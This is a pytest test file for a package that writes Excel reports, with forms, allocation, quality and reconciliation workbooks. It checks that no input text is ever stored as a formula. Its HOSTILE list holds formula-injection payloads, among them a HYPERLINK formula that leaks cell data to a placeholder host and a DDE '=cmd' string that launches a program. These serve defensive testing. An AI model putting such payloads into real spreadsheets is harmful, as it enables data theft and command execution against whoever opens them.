"""The one workbook writer: no input text ever becomes a formula; same bytes; big tables streamed.

Every workbook writer of the package (forms, the sample's insurer export, allocation.xlsx,
quality.xlsx, reconciliation.xlsx) is fed the strings spreadsheet programs run as formulas,
and each file is checked twice: with openpyxl (no cell of type 'f') and in the sheet XML
(no ``<f>`` element). The whole build is checked the same way in
test_hostile_params_outputs.py.
"""

from __future__ import annotations

import datetime as dt
import os
import stat
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from atiyeh_reports.errors import AtiyehError
from atiyeh_reports.io import xlsx as workbook
from atiyeh_reports.io.xlsx import Table, put, save_workbook, sheet_formulas, write_table, write_tables

#: What Excel, LibreOffice and Google Sheets run (or offer to run) when typed into a cell.
HOSTILE = (
    '=HYPERLINK("http://example.invalid/?leak="&A2,"click")',
    "=1+1",
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+2",
    "=",
)
STAMP = dt.datetime(2025, 3, 21)


def formula_cells(path: Path) -> list[str]:
    """Every place in ``path`` a formula could hide: openpyxl 'f' cells and ``<f>`` in sheet XML."""
    found = []
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            found += [f"{ws.title}!{c.coordinate}" for c in row if c.data_type == "f"]
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += [f"{name}: <f>"] * sheet_formulas(zf.read(name))
    return found


def texts(path: Path) -> set[str]:
    wb = openpyxl.load_workbook(path)
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


# --- the detector itself -----------------------------------------------------------------------
def test_the_formula_scan_finds_formulas_openpyxl_writes(tmp_path: Path) -> None:
    """A check that cannot fail proves nothing: a plain openpyxl save of '=1+1' is caught."""
    wb = openpyxl.Workbook()
    wb.active["A1"] = "=1+1"
    wb.save(tmp_path / "raw.xlsx")
    assert formula_cells(tmp_path / "raw.xlsx") == ["Sheet!A1", "xl/worksheets/sheet1.xml: <f>"]
    assert sheet_formulas(b'<c r="A1"><f t="shared" si="0"/></c><filterColumn/><firstFooter/>') == 1


# --- single cells ------------------------------------------------------------------------------
@pytest.mark.parametrize("text", HOSTILE)
def test_put_stores_hostile_text_as_text(tmp_path: Path, text: str) -> None:
    wb = openpyxl.Workbook()
    cell = put(wb.active, 1, 1, text)
    assert cell.data_type == "s" and cell.value == text
    path = save_workbook(wb, tmp_path / "a.xlsx", STAMP)
    assert formula_cells(path) == []
    back = openpyxl.load_workbook(path).active["A1"]
    assert back.value == text and back.data_type == "s"


def test_save_workbook_defuses_a_formula_set_behind_its_back(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    wb.active["A1"] = "=SUM(1,2)"  # openpyxl binds this as a formula
    assert wb.active["A1"].data_type == "f"
    path = save_workbook(wb, tmp_path / "a.xlsx", STAMP)
    assert formula_cells(path) == []
    assert openpyxl.load_workbook(path).active["A1"].value == "=SUM(1,2)"


def test_a_sheet_that_would_hold_a_formula_is_never_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "_defuse", lambda wb: None)  # the last guard, alone
    wb = openpyxl.Workbook()
    wb.active["A1"] = "=1+1"
    with pytest.raises(AtiyehError, match=r"a\.xlsx: xl/worksheets/sheet1\.xml would hold a formula; nothing written"):
        save_workbook(wb, tmp_path / "a.xlsx", STAMP)
    assert list(tmp_path.iterdir()) == []  # no file, no partial file


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (2**53 + 1, str(2**53 + 1)),  # beyond a double's exact integers: text keeps every digit
        (-(2**60), str(-(2**60))),
        (2**53, 2**53),
        (Decimal("0.85"), "0.85"),
        (float("inf"), "inf"),
        (float("nan"), None),
        (None, None),
        (pd.NA, None),
        ("a\x00b\x1fc", "abc"),  # characters XML cannot hold are dropped, not the cell
        (True, True),
        (12, 12),
        (1.5, 1.5),
    ],
)
def test_values_are_stored_exactly_or_as_their_text(tmp_path: Path, value: object, expected: object) -> None:
    wb = openpyxl.Workbook()
    put(wb.active, 1, 1, value)
    path = save_workbook(wb, tmp_path / "a.xlsx", STAMP)
    assert openpyxl.load_workbook(path).active["A1"].value == expected


def test_text_beyond_excels_cell_limit_is_cut_visibly(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    put(wb.active, 1, 1, "x" * 40_000)
    path = save_workbook(wb, tmp_path / "a.xlsx", STAMP)
    value = openpyxl.load_workbook(path).active["A1"].value
    assert len(value) == workbook.MAX_CELL_TEXT and value.endswith("…")


# --- streamed tables ---------------------------------------------------------------------------
def _hostile_frame(rows: int = 50) -> pd.DataFrame:
    return pd.DataFrame({
        "نام": [HOSTILE[i % len(HOSTILE)] for i in range(rows)],
        "شهرستان": ["-2", "+98 21", "@home", None, "تهران"] * (rows // 5),
        "مبلغ": list(range(rows)),
        "تاریخ": [dt.date(2025, 3, 21) + dt.timedelta(days=i) for i in range(rows)],
        "خط": ["a\rb", "x\ny", "", " lead", "t"] * (rows // 5),
    })


def test_write_tables_streams_rows_that_read_back_as_written(tmp_path: Path) -> None:
    frame = _hostile_frame()
    path = write_tables(tmp_path / "t.xlsx", [Table("یافته‌ها", frame, formats={"مبلغ": "#,##0"})], stamp=STAMP)
    assert formula_cells(path) == []
    ws = openpyxl.load_workbook(path)["یافته‌ها"]
    assert ws.sheet_view.rightToLeft and ws.freeze_panes == "A2"
    assert [c.value for c in ws[1]] == list(frame.columns) and ws["A1"].font.b
    got = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
    # A missing value is an empty cell; an empty string stays an empty text cell.
    want = [tuple(None if v is not None and not isinstance(v, str) and pd.isna(v) else v for v in r)
            for r in frame.itertuples(index=False, name=None)]
    for g, w in zip(got, want, strict=True):
        assert tuple(g[:3]) == w[:3]
        assert g[3].date() == w[3]  # a date cell, formatted
        assert g[4] == w[4]  # CR, LF and a leading space survive
    assert ws["C2"].number_format == "#,##0" and ws["D2"].number_format == "yyyy-mm-dd"
    assert ws.max_row == len(frame) + 1


def test_sheet_titles_excel_refuses_are_made_safe(tmp_path: Path) -> None:
    frame = pd.DataFrame({"a": [1]})
    path = write_tables(tmp_path / "t.xlsx", [Table("a/b:c*d?[e]" + "x" * 40, frame)], stamp=STAMP)
    title = openpyxl.load_workbook(path).sheetnames[0]
    assert title == ("a-b-c-d--e-" + "x" * 40)[:31]


def test_same_workbook_same_bytes_and_the_stamp_is_inside(tmp_path: Path) -> None:
    frame = _hostile_frame()
    a = write_tables(tmp_path / "a.xlsx", [Table("s", frame)], stamp=STAMP).read_bytes()
    b = write_tables(tmp_path / "b.xlsx", [Table("s", frame)], stamp=STAMP).read_bytes()
    c = write_tables(tmp_path / "c.xlsx", [Table("s", frame)], stamp=STAMP + dt.timedelta(days=1)).read_bytes()
    assert a == b and a != c
    with zipfile.ZipFile(tmp_path / "a.xlsx") as zf:
        assert {i.date_time for i in zf.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert "2025-03-21T00:00:00Z" in zf.read("docProps/core.xml").decode()


def test_a_data_row_clashing_with_an_openpyxl_row_is_an_error(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    put(ws, 3, 1, "written by openpyxl")
    rows = workbook.Rows(iter(['<row r="2"><c r="A2"/></row>']), 2, "A1:A2")
    with pytest.raises(AtiyehError, match="the data rows start at row 2, but row 3 is already written"):
        save_workbook(wb, tmp_path / "a.xlsx", STAMP, rows={ws.title: rows})
    assert list(tmp_path.iterdir()) == []


def test_files_follow_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o027)
    try:
        path = write_table(tmp_path / "t.xlsx", ["a"], [["x"]], sheet="s", stamp=STAMP)
    finally:
        os.umask(old)
    assert stat.S_IMODE(path.stat().st_mode) == 0o640


def test_forms_keeps_the_old_names() -> None:
    import atiyeh_reports.forms as forms
    from atiyeh_reports.core import provinces
    from atiyeh_reports.forms import template, write

    for old in (template, forms):
        assert old.save_workbook is workbook.save_workbook
        assert old.write_table is workbook.write_table
        assert old.set_value is workbook.set_value
        assert old.counties is provinces.counties
    assert forms.write_form is write.write_form and forms.write_forms is write.write_forms


# --- every writer of the package, fed hostile strings ---------------------------------------------
def test_a_returned_form_with_hostile_names_and_counties(tmp_path: Path) -> None:
    from atiyeh_reports.forms.write import write_form

    children = pd.DataFrame({
        "national_id": ["=0012345678", "+0012345679", "-1", "@1"],
        "first_name": list(HOSTILE[:4]),
        "last_name": list(HOSTILE[4:8]),
        "county": ["=HYPERLINK(\"x\")", "+1", "-2", "@SUM(A1)"],
        "court_order": ["=1", "+2", "-3", "@4"],
    })
    path = write_form(tmp_path / "IR-23_=evil.xlsx", "IR-23", 1404, children,
                      performance={"credit_notified": "=1+1", "credit_spent": "-5"})
    assert formula_cells(path) == []
    got = texts(path)
    assert set(children.to_numpy().ravel()) <= got
    assert {"=1+1", "-5"} <= got


def test_the_sample_insurer_export_with_hostile_policy_numbers(tmp_path: Path) -> None:
    path = write_table(tmp_path / "x.xlsx", ["شماره بیمه‌نامه", "استان"],
                       [[h, h] for h in HOSTILE], sheet="=s", stamp=STAMP)
    assert formula_cells(path) == []
    assert set(HOSTILE) <= texts(path)


def test_the_allocation_workbook_with_a_hostile_service_name(tmp_path: Path) -> None:
    from atiyeh_reports.allocation import budget, notify
    from factories import MILLION, THREE, make_params

    p = make_params(approved_credit=25 * MILLION)
    for evil in HOSTILE[:5]:
        params = p.model_copy(update={"service": p.service.model_copy(update={"name_fa": evil})})
        path = notify.write_allocation_workbook(params, budget.allocation_table(params, THREE, None),
                                                tmp_path / "allocation.xlsx")
        assert formula_cells(path) == []
        assert evil in texts(path)


def test_the_quality_workbook_with_hostile_values_and_file_names(tmp_path: Path) -> None:
    from atiyeh_reports.intake.quality import REJECTED, Finding, Problem, findings_frame
    from atiyeh_reports.intake.quality_workbook import write_quality_workbook

    findings = findings_frame(
        Finding(f"{h}.xlsx", h, 7, h, h, Problem.NAME_MISSING, REJECTED, h, "IR-23", h, h) for h in HOSTILE
    )
    summary = pd.DataFrame({"province_code": ["IR-23"], "rows_read": [8], "accepted": [0], "corrected": [0],
                            "rejected": [8], "blank_rows": [0]})
    path = write_quality_workbook(summary, findings, tmp_path / "quality.xlsx")
    assert formula_cells(path) == []
    assert set(HOSTILE) | {f"{h}.xlsx" for h in HOSTILE} <= texts(path)


def test_the_reconciliation_workbook_with_hostile_policy_numbers_names_and_files(tmp_path: Path, params) -> None:  # noqa: ANN001
    from atiyeh_reports.core import vocab
    from atiyeh_reports.insurer.reconciliation import reconcile
    from atiyeh_reports.insurer.workbook import write_reconciliation_workbook
    from factories import LIST, PREMIUM, children_frame, nid, policies_frame

    kids = children_frame([("IR-23", nid(i)) for i in range(1, 9)])
    kids["first_name"] = list(HOSTILE)
    kids["county"] = list(reversed(HOSTILE))
    kids["source_file"] = [f"{h}.xlsx" for h in HOSTILE]
    pols = policies_frame([(h, nid(100 + i), "IR-23", LIST, PREMIUM, vocab.POLICY_ACTIVE)
                           for i, h in enumerate(HOSTILE)])  # not on the list: every policy is a case
    pols["source_file"] = [f"{h}.csv" for h in HOSTILE]
    path = write_reconciliation_workbook(reconcile(kids, pols, params), tmp_path / "reconciliation.xlsx")
    assert formula_cells(path) == []
    got = texts(path)
    assert set(HOSTILE) <= got  # the policy numbers, and the names of the children without a policy


# --- the column-wise row builder (issue 10) ------------------------------------------------
def _rows_xml_cell_by_cell(columns, formats, first_row, count, styles):  # noqa: ANN001, ANN202
    """The row builder as it was before issue 10: one :func:`workbook.cell_xml` call per cell."""
    from openpyxl.utils import get_column_letter

    letters = [get_column_letter(c) for c in range(1, len(columns) + 1)]
    for offset in range(count):
        r = first_row + offset
        yield (f'<row r="{r}">'
               + "".join(workbook.cell_xml(f"{letters[c]}{r}", formats[c],
                                           values[offset] if offset < len(values) else None, styles)
                         for c, values in enumerate(columns))
               + "</row>")


def test_rows_xml_builds_the_cells_cell_xml_builds(monkeypatch: pytest.MonkeyPatch) -> None:
    import math
    import random

    import numpy as np

    rng = random.Random(10)
    pool: list[object] = ["متن", "=SUM(A1)", "a\rb", "x & <y>", "", " ", "\x01bad", "ی" * 40_000, None, pd.NA,
                          float("nan"), np.nan, 1, -5, 2**60, np.int64(7), 1.5, math.inf, np.float64(2.25), True,
                          np.bool_(False), dt.date(2024, 3, 20), dt.datetime(2024, 3, 20, 5, 6), pd.Timestamp(2024, 1, 2),
                          Decimal("1.10"), ("a", 1), "تهران"]
    columns = [[rng.choice(pool) for _ in range(rng.randrange(0, 40))] for _ in range(7)]
    formats = ["General", "#,##0", "@", "General", "General", "#,##0", "@"]
    styles = {"General": 0, "#,##0": 3, "@": 4, "date": 5}
    monkeypatch.setattr(workbook, "_ROWS_AT_ONCE", 7)  # several blocks, and a last short one
    count = max(map(len, columns))
    fast = list(workbook._rows_xml(columns, formats, 2, count, styles))
    assert fast == list(_rows_xml_cell_by_cell(columns, formats, 2, count, styles))
    assert len(fast) == count
